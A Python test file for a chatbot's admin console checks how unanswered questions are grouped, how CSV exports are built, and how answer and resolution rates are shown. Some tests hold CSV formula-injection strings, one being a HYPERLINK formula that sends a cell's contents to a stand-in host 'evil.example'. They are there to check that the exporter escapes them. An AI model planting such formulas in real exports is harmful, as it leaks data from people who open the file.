"""What was asked in vain and the success rates: what counts, how it is grouped, and what is exported."""

import csv
import html
import io
import re
from contextlib import nullcontext

import pytest

from bot.assistant import Assistant
from tests.web.console.conftest import Person
from web.console.sheet import cell
from web.console.vain_groups import VainGroups
from web.storage.vain import Reason, VainTurn

# Own questions, each row much the same in other words; the content answers none of them.
MEANINGS = (
    ("Kolik stojí letenka do Tokia?", "Jaká je cena letenky do Tokia?", "How much is a flight to Tokyo?"),
    (
        "Jak vyměním baterii v klíči?",
        "Baterka v klíči je vybitá, jak ji vyměním?",
        "How do I change the key's battery?",
    ),
    ("Kdy mám jet do servisu?", "Kdy je potřeba servisní prohlídka?"),
)


def asked(messages: list[str]) -> list[VainTurn]:
    """Turns with these messages, the newest first."""
    return [VainTurn(f"m{n}", text, 1_000 - n, "cs", Reason.DECLINED) for n, text in enumerate(messages)]


def rows(text: str) -> list[dict[str, str]]:
    """The rows of a CSV file."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture(scope="module")
def groups(assistant: Assistant) -> VainGroups:
    """Groups by the real encoder."""
    return VainGroups(assistant.index.retriever, nullcontext())


def test_questions_that_mean_the_same_are_one_group_in_any_order_and_language(groups: VainGroups) -> None:
    messages = [text for meaning in MEANINGS for text in meaning]
    for order in (messages, messages[::-1], sorted(messages)):
        found = {frozenset(turn.message for turn in one.examples) for one in groups.of(asked(order)).groups}
        assert found == {frozenset(meaning) for meaning in MEANINGS}


def test_the_same_turns_make_the_same_groups(assistant: Assistant, groups: VainGroups) -> None:
    turns = asked([text for meaning in MEANINGS for text in meaning])
    assert VainGroups(assistant.index.retriever, nullcontext()).of(turns) == groups.of(turns)


def test_the_same_words_written_otherwise_are_one_text_and_each_message_counts(groups: VainGroups) -> None:
    (one,) = groups.of(
        asked(["Máte recept na svíčkovou?", "mate recept na svickovou?", "Máte recept na svíčkovou?"])
    ).groups
    assert (one.count, len(one.examples), one.newest) == (3, 1, 1_000)


def test_a_message_with_two_reasons_counts_once(groups: VainGroups) -> None:
    turns = [VainTurn("m1", "Kdo vyhrál hokej?", 5, "cs", reason) for reason in (Reason.DECLINED, Reason.RATED_DOWN)]
    (one,) = groups.of(turns).groups
    assert (one.count, one.reasons) == (1, {Reason.DECLINED: 1, Reason.RATED_DOWN: 1})


def test_nothing_asked_in_vain_is_no_group(groups: VainGroups) -> None:
    assert groups.of([]).groups == ()


def test_each_reason_is_shown_with_the_nearest_entry(agent: Person, lead: Person) -> None:
    agent.chat("Kolik stojí letenka do Tokia?")
    agent.rate(agent.chat("Jak zapnu roaming v Taycanu?"), "down")
    agent.hand_off(agent.chat("K čemu je bezpečnostní kód?", "děkuji"))
    agent.rate(agent.chat("Jak smažu účet Porsche ID?"), "up")
    page = lead.get("/console/vain").text
    for text in ("Kolik stojí letenka do Tokia?", "Jak zapnu roaming v Taycanu?", "K čemu je bezpečnostní kód?"):
        assert text in page
    assert "Jak smažu účet" not in page
    assert 'href="/console/entries/roaming-activate"' in page
    only = lead.get("/console/vain?reason=rated_down").text
    assert ("roaming v Taycanu" in only, "letenka" in only) == (True, False)
    found = {row["question"]: row for row in rows(lead.get("/console/vain.csv").text)}
    assert found["K čemu je bezpečnostní kód?"]["handed_off"] == "1"
    assert found["Jak zapnu roaming v Taycanu?"]["nearest_entry"] == "roaming-activate"
    assert float(found["Jak zapnu roaming v Taycanu?"]["confidence"]) > 0.5
    assert rows(lead.get("/console/vain.csv?from=2020-01-01&to=2020-01-02").text) == []


@pytest.mark.parametrize(
    "attack", ["=HYPERLINK(1)", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "\u00a0=1"]
)
def test_no_cell_is_computed_by_a_spreadsheet(attack: str) -> None:
    assert cell(attack) == f"'{attack}"


def test_other_cells_stay_as_they_are() -> None:
    assert [cell(value) for value in (-1, 0.5, "", "a=b", "2026-01-31")] == ["-1", "0.5", "", "a=b", "2026-01-31"]


def test_a_question_that_is_a_formula_is_exported_as_text(agent: Person, lead: Person) -> None:
    agent.chat('=HYPERLINK("http://evil.example?x="&A1;"Kolik stojí letenka do Tokia?")')
    text = lead.get("/console/vain.csv").text
    assert text.startswith("\ufeff")
    (row,) = rows(text)
    assert row["question"].startswith("'=HYPERLINK")
    assert '"=' not in text


def test_rates_tell_what_was_answered_and_what_was_resolved(agent: Person, lead: Person) -> None:
    agent.chat("Jak zapnu roaming v Taycanu?", "děkuji", country="AT")  # resolved
    agent.rate(agent.chat("Jak zapnu roaming v Taycanu?", country="AT"), "down")  # answered
    agent.hand_off(agent.chat("Jak smažu účet Porsche ID?"))  # answered
    liked = agent.chat("Jak smažu účet Porsche ID?")  # resolved in spite of the hand-off
    agent.hand_off(liked)
    agent.rate(liked, "up")
    agent.chat("Kolik stojí letenka do Tokia?")  # neither
    agent.chat("dobrý den")  # no conversation
    found = {(row["by"], row["value"]): row for row in rows(lead.get("/console/shares.csv").text)}
    told = {
        key: tuple(int(row[name]) for name in ("conversations", "answered", "resolved")) for key, row in found.items()
    }
    assert told["language", "cs"] == (5, 4, 2)
    assert told["country", "AT"] == (2, 2, 1)
    assert told["model", "taycan"] == (2, 2, 1)
    assert told["entry", "roaming-activate"] == (2, 2, 1)
    assert sum(counts[0] for (by, _), counts in told.items() if by == "day") == 5
    page = html.unescape(lead.get("/console/shares").text)
    assert re.findall(r"<dd>(.*?)</dd>", page)[:3] == ["5", "80%", "40%"]
    assert len(re.findall(r"<svg[^>]*role=\"img\"[^>]*>\s*<title", page)) == 5
    assert "style=" not in page


def test_rates_of_days_without_conversations_are_told_as_none(lead: Person) -> None:
    assert "There is nothing of the kind." in lead.get("/console/shares?from=2020-01-01&to=2020-02-01").text
